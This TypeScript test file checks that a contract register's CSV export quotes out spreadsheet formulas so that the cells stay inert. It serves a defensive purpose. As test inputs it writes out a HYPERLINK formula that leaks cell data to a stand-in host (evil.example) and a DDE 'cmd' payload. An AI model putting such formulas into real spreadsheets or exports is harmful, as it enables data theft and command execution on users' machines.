import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { RegisterRow } from '../../src/domain/index.ts';
import { inertCell } from '../../src/client/csv.ts';
import { formatRegister } from '../../src/client/records-format.ts';
import { lifecycleEvents, registerAfter } from '../records/support/agreement-events.ts';

/** What a spreadsheet would run as a formula: the OWASP list, also after leading spaces. */
const LIVE = /^(?:[\t\r\n]| *[=+\-@])/;

const base = registerAfter('ag-csv', lifecycleEvents(9));

/** Text built to be run by a spreadsheet: a formula lead, then anything (quotes, commas, line breaks included). */
const hostileText = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' =', '  @', '=-', "'=", ''),
    fc.oneof(
      fc.string(),
      fc.constantFrom('HYPERLINK("http://evil.example","open")', "cmd|' /C calc'!A0", '1+1', 'SUM(A1:A9)'),
    ),
  )
  .map(([lead, rest]) => `${lead}${rest}`);

function readBack(csv: string): string[][] {
  return parse(csv, { relax_column_count: false, record_delimiter: '\r\n' }) as string[][];
}

describe('CSV exports are inert in a spreadsheet', () => {
  it('exports a HYPERLINK title as text', () => {
    const title = '=HYPERLINK("http://evil.example/steal?d="&A1,"open")';
    const [, row] = readBack(formatRegister([{ ...base, title }], 'csv'));
    expect(row?.[1]).toBe(`'${title}`);
  });

  it('no field of the register starts a formula, and each reads back as given (bar the quote)', () => {
    fc.assert(
      fc.property(
        hostileText,
        hostileText,
        hostileText,
        fc.array(hostileText, { maxLength: 3 }),
        (title, id, kind, parties) => {
          const row: RegisterRow = { ...base, id, title, kind, parties, currency: kind };
          const records = readBack(formatRegister([row], 'csv'));
          expect(records).toHaveLength(2);
          const fields = records[1] ?? [];
          for (const field of fields) expect(field).not.toMatch(LIVE);
          const given = [id, title, kind, parties.join(';'), row.stage, row.ceremonyAt ?? '', kind];
          given.forEach((value, index) => {
            expect(fields[index]).toBe(LIVE.test(value) ? `'${value}` : value);
          });
        },
      ),
      { numRuns: 500 },
    );
  });

  it('leaves ordinary text, numbers and times as they are', () => {
    fc.assert(
      fc.property(
        fc.string().filter((text) => !LIVE.test(text)),
        (text) => inertCell(text) === text,
      ),
    );
    for (const value of ['1350000.05', '2027-01-15T10:00:00+08:00', 'UoB–JITRI programme', "'quoted"])
      expect(inertCell(value)).toBe(value);
  });
});
